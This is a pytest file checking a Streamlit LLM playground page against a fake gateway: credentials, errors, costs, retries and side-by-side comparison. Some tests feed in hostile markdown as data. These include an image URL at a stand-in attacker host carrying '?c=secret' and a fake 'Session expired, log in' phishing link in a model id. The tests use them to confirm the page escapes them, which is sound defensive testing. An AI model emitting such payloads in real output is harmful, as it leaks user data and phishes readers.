"""The Playground page through app.py (AppTest), talking to the fake gateway on loopback."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
from apps import let_visitors_spend
from conftest import GATEWAY_VARIABLES
from fake_gateway import running_fake
from html_tables import read_lines
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from catalog.dashboard.model_page import model_link

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "fwd_tok_PAGE_SECRET_c0ffee"
PROVIDER_KEY = "di_PAGE_PROVIDER_SECRET_beef"
SETTINGS = GATEWAY_VARIABLES


@pytest.fixture
def fake(monkeypatch, tmp_path):
    for name in SETTINGS:
        monkeypatch.delenv(name, raising=False)
    # A history of its own: replies other test files measured would change what a newcomer is shown.
    monkeypatch.setenv("CATALOG_DB_URL", f"sqlite:///{tmp_path / 'history.sqlite3'}")
    let_visitors_spend(monkeypatch)
    with running_fake(forward_tokens={TOKEN}, deepinfra_key=PROVIDER_KEY, retry_after="30") as server:
        yield server


def playground(model: str | None = None, secrets: dict[str, str] | None = None, provider: str | None = None) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
    at.secrets.update(secrets or {})
    at.run()
    if model is not None:
        at.query_params["model"] = model
    if provider is not None:
        at.query_params["provider"] = provider
    at.switch_page("pages/playground.py").run()
    assert not at.exception
    return at


def send(at: AppTest, prompt: str) -> list[tuple[str, str]]:
    """Send a prompt; the (element type, text) pairs of the last assistant message."""
    at.chat_input(key="pg_prompt").set_value(prompt).run()
    assert not at.exception
    reply = at.chat_message[-1]
    assert reply.name == "assistant"
    pairs = [(type(node).__name__, str(getattr(node, "value", ""))) for node in _walk(reply)]
    return [(kind, shown(text) if kind in ("Error", "Warning") else text) for kind, text in pairs]


def shown(markdown: str) -> str:
    """The text a markdown body shows once its backslash escapes are read and the invisible word joiners that
    keep a bare address from being linked are dropped (how `catalog.literal.markdown_text` writes text)."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")


def _walk(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _walk(child)


def page_text(at: AppTest) -> str:
    """Everything the page tree holds: element protos and values."""
    return "\n".join(f"{getattr(node, 'proto', '')} {getattr(node, 'value', '')}" for node in _walk(at._tree))


SETUP_WORDS = ("LAVA_FORWARD_TOKEN", "LAVA_SECRET_KEY", "DEEPINFRA_API_KEY", "LAVA_BASE_URL", "secrets.toml", "aks_")


def test_a_newcomer_without_a_credential_gets_a_working_preview_and_no_setup_text(fake):
    at = playground()
    text = page_text(at)
    assert not [word for word in SETUP_WORDS if word in text]  # no operator set-up text for a visitor
    assert len(at.chat_input) == 0 and fake.requests == []
    captions = [caption.value for caption in at.main.caption]
    assert any("paste a Lava forward token" in caption for caption in captions)  # how to get a credential
    assert any("No past replies measured yet" in caption for caption in captions)
    assert "Credential: none · paste one" in text and "Paste a credential (this session only)" in text
    at.text_input(key="pg_preview").input("x" * 4000).run()  # 1,000 tokens on the 1B model: $0.005 in per 1M
    assert "About 1,000 tokens in (characters ÷ 4): $0.000005 to send" in shown(at.main.caption[-1].value)
    assert fake.requests == [] and not at.exception


def test_a_bare_playground_opens_the_cheapest_chat_model_and_says_so(fake):
    at = playground()
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "meta-llama/Llama-3.2-1B-Instruct")
    assert any("the cheapest chat model" in caption.value for caption in at.main.caption)


def test_a_bare_playground_opens_the_model_last_looked_at(fake):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
    at.run()
    at.query_params["id"] = "Qwen/Qwen3-14B"
    at.switch_page("pages/model.py").run()
    assert "Qwen3" in at.title[0].value
    at.query_params.clear()
    at.switch_page("pages/playground.py").run()
    assert not at.exception
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "Qwen/Qwen3-14B")
    assert any("Qwen/Qwen3-14B, the model you last looked at" in shown(c.value) for c in at.main.caption)


def test_an_operator_sees_which_variables_to_set(fake, monkeypatch):
    monkeypatch.setenv("OPERATOR_UI", "1")
    at = playground()
    help_text = at.expander[-1].markdown[0].value
    for name in SETUP_WORDS[:5]:
        assert name in help_text
    assert len(at.chat_input) == 0 and fake.requests == []


def test_the_credential_label_says_whose_credential_is_used(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    assert "Credential: the operator\\'s (within limits)" in page_text(at)  # the proto's text escapes quotes
    assert "LAVA_FORWARD_TOKEN" not in page_text(at)  # the operator's setting is not named to a visitor
    at.text_input(key="pg_credential").input(TOKEN).run()
    assert "Credential: yours (this session)" in page_text(at)


def test_a_reply_streams_in_with_its_metrics_cost_and_session_total(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    monkeypatch.setenv("OPERATOR_UI", "1")
    at = playground("meta-llama/Meta-Llama-3.1-8B-Instruct")
    assert "Mode: **Lava forward token** · credential from LAVA_FORWARD_TOKEN" in at.main.caption[-1].value
    reply = send(at, "Hello <b>bold</b>")
    texts = [text for kind, text in reply if kind == "Markdown"]
    greeting = "**meta-llama/Meta-Llama-3.1-8B-Instruct** says hello — café, naïve ✓."
    assert texts == [f"{greeting} You wrote: Hello <b>bold</b>"]
    metrics = [text for kind, text in reply if kind == "Caption"][-1]
    assert "tokens in · 11 out · $0.0000007 (DeepInfra estimate $0.0000032)" in metrics
    assert "tokens/s" in metrics and "first token" in metrics and "req_fake_1" in metrics
    assert "1 reply ·" in at.sidebar.caption[-1].value
    assert fake.requests[0]["body"]["model"] == "meta-llama/Meta-Llama-3.1-8B-Instruct"
    send(at, "And again")
    assert [m["role"] for m in fake.requests[1]["body"]["messages"]] == ["user", "assistant", "user"]
    assert "2 replies" in at.sidebar.caption[-1].value
    at.button[0].click().run()  # Clear chat
    assert len(at.chat_message) == 0 and not at.exception


def test_parameters_and_system_prompt_reach_the_request(fake):
    at = playground(secrets={"LAVA_BASE_URL": fake.url, "LAVA_FORWARD_TOKEN": TOKEN})  # via st.secrets
    at.text_area(key="pg_system").set_value("Answer in French.")
    at.slider(key="pg_temperature").set_value(0.3)
    at.number_input(key="pg_max_tokens").set_value(64)
    at.text_area(key="pg_stop").set_value("END\n")
    send(at, "Hi")
    body = fake.requests[0]["body"]
    assert body["messages"][0] == {"role": "system", "content": "Answer in French."}
    assert (body["temperature"], body["max_tokens"], body["stop"]) == (0.3, 64, ["END"])


def test_images_in_a_reply_are_escaped_never_fetched(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    reply = send(at, "![chart](https://evil.example/leak.png?c=secret)")  # the fake echoes the prompt back
    (text,) = [text for kind, text in reply if kind == "Markdown"]
    assert text.endswith("You wrote: \\![chart](https://evil.example/leak.png?c=secret)")
    at.run()  # the history, drawn again, is safe too
    assert "![chart]" not in page_text(at).replace("\\![chart]", "")


def test_a_bad_parameter_is_shown_by_the_fields_and_keeps_the_chat(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    send(at, "First")
    at.text_area(key="pg_stop").set_value("a\nb\nc\nd\ne").run()
    assert not at.exception
    assert "stop" in at.main.error[0].value.lower()  # beside the fields, in the page
    assert [message.name for message in at.chat_message] == ["user", "assistant"]  # the chat is still there
    assert at.chat_input(key="pg_prompt").disabled
    at.text_area(key="pg_stop").set_value("a").run()
    assert not at.error and not at.chat_input(key="pg_prompt").disabled


def test_a_model_in_the_link_is_preselected_and_its_reasoning_is_kept_apart(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground(model="deepseek-ai/DeepSeek-R1")
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "deepseek-ai/DeepSeek-R1")
    send(at, "Think")
    assert at.chat_message[-1].expander[0].label == "Reasoning"
    assert at.chat_message[-1].expander[0].markdown[0].value == "Let me think about this… done."


def test_an_unknown_model_in_the_link_warns_and_sends_nothing(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground(model="attacker/model")
    assert "no model `attacker/model`" in at.warning[0].value
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "meta-llama/Meta-Llama-3.1-8B-Instruct")
    assert at.query_params["model"] == "meta-llama/Meta-Llama-3.1-8B-Instruct" and fake.requests == []


def test_each_error_shows_its_message_and_no_exception_nor_secret(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    expected = {
        "401": ("Error", "Authentication failed (HTTP 401)"),
        "402": ("Error", "Payment required (HTTP 402)"),
        "404": ("Error", "does not exist"),
        "422": ("Error", "body.temperature: must be <= 2"),
        "429": ("Error", "Rate limited (HTTP 429)"),
        "500": ("Error", "HTTP 500"),
        "cut": ("Warning", "cut off after"),
        "malformed": ("Warning", "not valid JSON"),
    }
    for directive, (kind, message) in expected.items():
        reply = send(at, f"!fake:{directive}")
        assert any(k == kind and message in text for k, text in reply), (directive, reply)
    assert TOKEN not in page_text(at)


def test_a_wrong_token_reads_as_authentication_failed(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", "fwd_tok_WRONG_value_123")
    reply = send(playground(), "Hi")
    assert any(kind == "Error" and text.startswith("Authentication failed") for kind, text in reply)


def test_an_unreachable_gateway_is_explained(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    reply = send(playground(), "Hi")
    assert any(kind == "Error" and "Could not connect" in text for kind, text in reply)


def test_a_bad_base_url_is_an_error_not_a_traceback(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", "ftp://somewhere")
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    assert "LAVA_BASE_URL" not in at.error[0].value and "unusable" in at.error[0].value  # a visitor: no names
    monkeypatch.setenv("OPERATOR_UI", "1")
    at = playground()
    assert "LAVA_BASE_URL must be an http(s) URL" in shown(at.error[0].value)


def test_a_sidebar_deepinfra_key_switches_to_direct_mode(fake, monkeypatch):
    monkeypatch.setenv("DEEPINFRA_BASE_URL", fake.url)
    at = playground()
    at.radio(key="pg_kind").set_value(at.radio(key="pg_kind").options[2])
    at.text_input(key="pg_credential").input(PROVIDER_KEY).run()
    assert "Direct to DeepInfra" in " ".join(c.value for c in at.caption)
    send(at, "Direct hello")
    assert fake.requests[0]["path"] == "/v1/openai/chat/completions"
    assert "You wrote: Direct hello" in at.chat_message[-1].markdown[0].value


def test_side_by_side_runs_the_prompt_on_several_models_and_tabulates_them(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    models = ["meta-llama/Meta-Llama-3.1-8B-Instruct", "Qwen/Qwen3-14B", "deepseek-ai/DeepSeek-R1"]
    at.radio(key="pg_mode").set_value("Side by side").run()
    at.multiselect(key="pg_side_models").set_value([("DeepInfra", model) for model in models]).run()
    at.chat_input(key="pg_prompt").set_value("Compare us").run()
    assert not at.exception
    table = at.dataframe[0].value
    assert list(table["model"]) == models and list(table["status"]) == ["complete"] * 3
    assert (table["cost_usd"] > 0).all() and (table["reply_chars"] > 0).all()
    assert "3 replies" in at.sidebar.caption[-1].value
    assert sorted(request["body"]["model"] for request in fake.requests) == sorted(models)


def test_a_pasted_credential_with_a_stray_character_is_explained_not_a_traceback(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    at = playground()
    pasted = "fwd_tok_PASTED_SECRET…"  # copied from a truncated display: not sendable in a header
    at.text_input(key="pg_credential").input(pasted).run()
    assert not at.exception
    assert "cannot be sent" in at.error[0].value and "from the page" in at.error[0].value
    at.text_input(key="pg_credential").set_value("")  # the password field itself holds what was typed
    assert "PASTED_SECRET" not in page_text(at) and fake.requests == []


OTHER_PAGE = """# Groq

Groq offers 2 models through Lava's AI Gateway.

| Model | Input / 1M tokens | Output / 1M tokens |
| --- | --- | --- |
| meta-llama/Meta-Llama-3.1-8B-Instruct | $0.05 | $0.08 |
| evil/[Session expired, log in](http://evil.example)![x](http://evil.example/p.png) | $0.10 | $0.10 |
"""


def rendered(at: AppTest) -> str:
    """Every markdown body on the page (alerts, captions, markdown) rendered by a CommonMark renderer."""
    bodies = [str(node.value) for node in _walk(at._tree) if type(node).__name__ in MARKDOWN_KINDS]
    return "\n".join(MarkdownIt("commonmark").render(body) for body in bodies)


MARKDOWN_KINDS = ("Markdown", "Caption", "Error", "Warning", "Info", "Success")


def test_a_gateway_error_written_in_markdown_is_shown_as_text(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    reply = send(at, "!fake:mdinject")
    assert any(kind == "Error" and "![x](http://evil.example/p.png)" in text for kind, text in reply)
    page = rendered(at)
    assert "<img" not in page and 'evil.example">' not in page and "<b>" not in page


def test_a_reply_past_the_operators_deadline_is_kept_and_explained(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    monkeypatch.setenv("PLAYGROUND_REPLY_DEADLINE_S", "0.5")
    fake.slow_s = 5.0
    reply = send(playground(), "!fake:endless")
    (warning,) = [text for kind, text in reply if kind == "Warning"]
    assert "took longer than the 0.5 s allowed" in warning and "incomplete" in warning
    assert any(kind == "Markdown" and "more more" in text for kind, text in reply)


def test_a_bad_reply_limit_is_explained_not_a_traceback(fake, monkeypatch):
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    monkeypatch.setenv("PLAYGROUND_MAX_REPLY_CHARS", "lots")
    monkeypatch.setenv("OPERATOR_UI", "1")  # the setting's name is for the operator
    at = playground()
    assert "PLAYGROUND_MAX_REPLY_CHARS must be a number" in shown(at.error[0].value)


@pytest.fixture
def other_provider(fake, monkeypatch, tmp_path):
    """A second provider page (as an operator's CATALOG_SOURCES) listing a DeepInfra id and a hostile id."""
    page = tmp_path / "groq.md"
    page.write_text(OTHER_PAGE, encoding="utf-8")
    monkeypatch.setenv("CATALOG_SOURCES", str(page))
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    return fake


def test_another_page_listing_a_deepinfra_id_does_not_hide_deepinfras_model(other_provider):
    at = playground(model="meta-llama/Meta-Llama-3.1-8B-Instruct")
    picker = at.selectbox(key="pg_model")
    assert picker.value == ("DeepInfra", "meta-llama/Meta-Llama-3.1-8B-Instruct")
    assert ("Groq", "meta-llama/Meta-Llama-3.1-8B-Instruct") in picker.options or any(
        "Groq" in option for option in picker.options
    )
    assert at.query_params["provider"] == "DeepInfra"  # the id is ambiguous now: the link names the provider
    send(at, "Hello")
    assert other_provider.requests[0]["body"]["model"] == "meta-llama/Meta-Llama-3.1-8B-Instruct"


def test_the_link_can_name_the_provider(other_provider):
    at = playground(model="meta-llama/Meta-Llama-3.1-8B-Instruct", provider="Groq")
    assert at.selectbox(key="pg_model").value == ("Groq", "meta-llama/Meta-Llama-3.1-8B-Instruct")
    at.chat_input(key="pg_prompt").set_value("Hello").run()  # Groq's page gives no trusted chat URL
    assert not at.exception
    assert "The provider page for Groq gives no chat-completions URL" in shown(at.error[0].value)
    assert other_provider.requests == []


def test_a_hostile_model_id_is_shown_literally_in_side_by_side(other_provider):
    at = playground()
    hostile = next(key for key in at.selectbox(key="pg_model").options if "evil" in str(key))
    assert hostile
    keys = [("DeepInfra", "Qwen/Qwen3-14B"), ("Groq", "evil/[Session expired, log in](http://evil.example)"
            "![x](http://evil.example/p.png)")]  # fmt: skip
    at.radio(key="pg_mode").set_value("Side by side").run()
    at.multiselect(key="pg_side_models").set_value(keys).run()
    at.chat_input(key="pg_prompt").set_value("Compare us").run()
    assert not at.exception
    page = rendered(at)
    assert "<img" not in page and 'href="http://evil.example"' not in page


def pinned_nowhere_else(at: AppTest) -> list:
    """Chat inputs found inside the main area (a chat input at the top level lives in the bottom block)."""
    return [node for node in _walk(at.main) if type(node).__name__ == "ChatInput"]


def test_the_message_box_sits_at_the_top_level_so_it_is_pinned_in_both_modes(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    assert not pinned_nowhere_else(at)  # drawn in Streamlit's bottom block, not in the page's main flow
    at.radio(key="pg_mode").set_value("Side by side").run()
    assert not pinned_nowhere_else(at)
    assert at.chat_input(key="pg_prompt").disabled  # one model picked: side by side needs two


def test_a_failed_reply_can_be_retried(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    reply = send(at, "!fake:429once")  # the gateway asks to wait 30 s: reported, not waited for
    assert any(kind == "Error" and "Rate limited" in text for kind, text in reply)
    at.button(key="pg_retry").click().run()
    assert not at.exception
    assert [message.name for message in at.chat_message] == ["user", "assistant"]
    assert "says hello" in at.chat_message[-1].markdown[0].value and len(fake.requests) == 2
    assert not [button for button in at.button if button.key == "pg_retry"]


def test_a_cut_reply_can_be_retried_too(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    send(at, "!fake:cut")
    at.button(key="pg_retry").click().run()
    assert [message.name for message in at.chat_message] == ["user", "assistant"] and len(fake.requests) == 2


def test_side_by_side_can_be_retried_and_exported(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground()
    at.radio(key="pg_mode").set_value("Side by side").run()
    picked = [("DeepInfra", "Qwen/Qwen3-14B"), ("DeepInfra", "meta-llama/Meta-Llama-3.1-8B-Instruct")]
    at.multiselect(key="pg_side_models").set_value(picked).run()
    at.chat_input(key="pg_prompt").set_value("!fake:429once").run()  # one of the two gets the 429
    assert sorted(at.dataframe[0].value["status"]) == ["Rate limited", "complete"]
    at.button(key="pg_side_retry").click().run()
    assert not at.exception and list(at.dataframe[0].value["status"]) == ["complete", "complete"]
    assert len(fake.requests) == 4 and {r["body"]["messages"][-1]["content"] for r in fake.requests} == {
        "!fake:429once"
    }
    labels = [element.proto.label for element in at.get("download_button")]
    assert labels == ["Export JSON", "Export markdown"]


def model_line(at: AppTest) -> tuple[str, str]:
    """The Playground's line naming its model: its text, and where its name links."""
    body = next(element.value for element in at.get("html") if 'aria-label="Model"' in element.value)
    (href,) = re.findall(r'href="([^"]*)"', body)
    (line,) = read_lines(body)
    return line, html.unescape(href)


def test_picking_another_model_chats_with_it_and_a_new_link_picks_again(fake, monkeypatch):
    monkeypatch.setenv("LAVA_BASE_URL", fake.url)
    monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
    at = playground(model="deepseek-ai/DeepSeek-R1")
    at.selectbox(key="pg_model").set_value(("DeepInfra", "microsoft/phi-4")).run()
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "microsoft/phi-4")
    assert at.query_params["model"] == "microsoft/phi-4"  # the link follows the pick…
    assert model_line(at) == (
        "phi 4 · $0.07 in · $0.14 out per 1M tokens",
        model_link("microsoft/phi-4", "DeepInfra"),
    )  # …and so does the line above the picker, drawn before it
    send(at, "Hello")
    assert fake.requests[-1]["body"]["model"] == "microsoft/phi-4"
    at.query_params["model"] = "deepseek-ai/DeepSeek-R1"  # another page's "Try it" link
    at.run()
    assert at.selectbox(key="pg_model").value == ("DeepInfra", "deepseek-ai/DeepSeek-R1")
